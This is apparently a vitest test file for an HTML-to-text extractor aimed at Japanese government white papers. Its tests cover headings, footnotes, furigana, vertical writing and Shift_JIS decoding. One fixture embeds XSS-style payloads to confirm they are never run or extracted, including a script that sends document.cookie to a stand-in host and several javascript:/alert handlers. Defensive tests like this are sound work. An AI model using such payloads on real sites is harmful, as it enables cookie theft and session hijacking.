import { describe, expect, it } from 'vitest';
import { declaredCharset, decodeHtml } from './html-decode';
import { extractHtml } from './html';
import { resolveLimits } from './limits';

const context = { name: 'page.html', limits: resolveLimits(), progress: () => undefined };
const utf8 = (s: string) => new TextEncoder().encode(s);
const blocks = (html: string) =>
  extractHtml(utf8(html), context).blocks.map((b) => [b.role, b.level, b.lines.join('|')]);

describe('HTML adapter', () => {
  it('turns h1–h6 into outline levels and paragraphs into blocks', () => {
    expect(
      blocks(
        '<h1>第Ⅱ部</h1><h2>第３章\u3000米国・カナダ</h2><p>２年目を迎えた</p><h4>＜232条＞</h4><p>本文</p>',
      ),
    ).toEqual([
      ['heading', 1, '第Ⅱ部'],
      ['heading', 2, '第３章\u3000米国・カナダ'],
      ['body', 0, '２年目を迎えた'],
      ['heading', 4, '＜232条＞'],
      ['body', 0, '本文'],
    ]);
  });

  it('runs nothing and reads no script, style, template or form: their text never appears', () => {
    const html = `<html><head><title>白書</title><style>p{color:red}</style>
      <script>window.location='https://evil.example/'+document.cookie</script></head>
      <body onload="alert(1)"><script>document.write('<p>注入</p>')</script>
      <noscript>有効にしてください</noscript><template><p>雛形</p></template>
      <form><input value="入力"><button>送信</button></form>
      <p onclick="steal()">本文だけ<img src="x" onerror="alert(1)" alt="画像"></p>
      <iframe src="javascript:alert(1)">枠</iframe><svg><text>図形</text></svg></body></html>`;
    const doc = extractHtml(utf8(html), context);
    expect(doc.title).toBe('白書');
    expect(doc.blocks.map((b) => b.lines.join(''))).toEqual(['本文だけ']);
  });

  it('drops the site around the document: navigation, header, footer, breadcrumbs, hidden parts', () => {
    const html = `<body><header><p>経済産業省</p><nav><ul><li>ホーム</li></ul></nav></header>
      <div id="pankuzu">ホーム ＞ 白書</div><div class="topicpath">ホーム</div>
      <div class="l-sidebar"><p>関連リンク</p></div>
      <article><header><h1>第１節\u3000米国</h1></header><p>本文。</p></article>
      <p hidden>隠し</p><p style="display: none">見えない</p><p aria-hidden="true">装飾</p>
      <footer><p>Copyright METI</p></footer><a class="pagetop" href="#top">ページの先頭へ</a></body>`;
    expect(blocks(html)).toEqual([
      ['heading', 1, '第１節\u3000米国'],
      ['body', 0, '本文。'],
    ]);
  });

  it('reads only <main> when the page marks its main content', () => {
    const html = `<body><div><p>サイトのお知らせ</p></div><main><h2>概況</h2><p>本文一。</p><p>本文二。</p></main><div><p>別のお知らせ</p></div></body>`;
    expect(blocks(html).map((b) => b[2])).toEqual(['概況', '本文一。', '本文二。']);
  });

  it('keeps <br> as line breaks for the ingest to join, and drops furigana (<rt>, <rp>)', () => {
    const doc = extractHtml(
      utf8(
        '<p>気候変動対策への<br>投資を<ruby>目的<rp>(</rp><rt>もくてき</rt><rp>)</rp></ruby>とする</p>',
      ),
      context,
    );
    expect(doc.blocks[0]?.lines).toEqual(['気候変動対策への', '投資を目的とする']);
  });

  it('keeps footnotes and captions apart from the body', () => {
    const html = `<p>本文<sup><a href="#fn1">1</a></sup>。</p>
      <figure><img src="a.png" alt=""><figcaption>図表1\u3000米国の対外直接投資</figcaption></figure>
      <table><caption>表1\u3000品目別</caption><tr><th>品目</th><th>税率</th></tr><tr><td>鉄鋼</td><td>25%</td></tr></table>
      <div class="footnotes"><p id="fn1">1\u3000金額は円換算。</p></div>`;
    expect(blocks(html)).toEqual([
      ['body', 0, '本文1。'],
      ['caption', 0, '図表1\u3000米国の対外直接投資'],
      ['caption', 0, '表1\u3000品目別'],
      ['body', 0, '品目\u3000税率'],
      ['body', 0, '鉄鋼\u300025%'],
      ['footnote', 0, '1\u3000金額は円換算。'],
    ]);
  });

  it('keeps preformatted lines as lines', () => {
    expect(
      extractHtml(utf8('<pre>$ apt-get install\n$ dpkg -i x.deb\n</pre>'), context).blocks[0]
        ?.lines,
    ).toEqual(['$ apt-get install', '$ dpkg -i x.deb']);
  });

  it('reports vertical writing asked for by the page', () => {
    const doc = extractHtml(
      utf8('<html style="writing-mode: vertical-rl"><body><p>縦</p></body></html>'),
      context,
    );
    expect(doc.writingMode).toBe('vertical');
    expect(extractHtml(utf8('<p>横</p>'), context).writingMode).toBe('horizontal');
  });

  it('parses XHTML (self-closing elements) in XML mode', () => {
    const doc = extractHtml(
      utf8(
        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>一<span/>二</p><div/><p>三</p></body></html>',
      ),
      { ...context, name: 'a.xhtml' },
    );
    expect(doc.blocks.map((b) => b.lines.join(''))).toEqual(['一二', '三']);
  });
});

describe('decodeHtml', () => {
  it('uses the charset the page declares (Shift_JIS saved pages)', () => {
    const sjis = new Uint8Array([
      ...utf8('<meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS"><p>'),
      0x94,
      0x92,
      0x8f,
      0x91, // 白書
      ...utf8('</p>'),
    ]);
    expect(declaredCharset(sjis)).toBe('shift_jis');
    const decoded = decodeHtml(sjis, 'a.html');
    expect(decoded.encoding).toBe('shift_jis');
    expect(decoded.text).toContain('<p>白書</p>');
  });

  it('falls back to UTF-8, then Shift_JIS, when nothing is declared or the declaration is wrong', () => {
    expect(decodeHtml(utf8('<meta charset="iso-2022-jp"><p>白書</p>'), 'a.html').encoding).toBe(
      'utf-8',
    );
    expect(
      decodeHtml(new Uint8Array([0x3c, 0x70, 0x3e, 0x94, 0x92, 0x8f, 0x91]), 'a.html'),
    ).toEqual({
      text: '<p>白書',
      encoding: 'shift_jis',
    });
  });
});
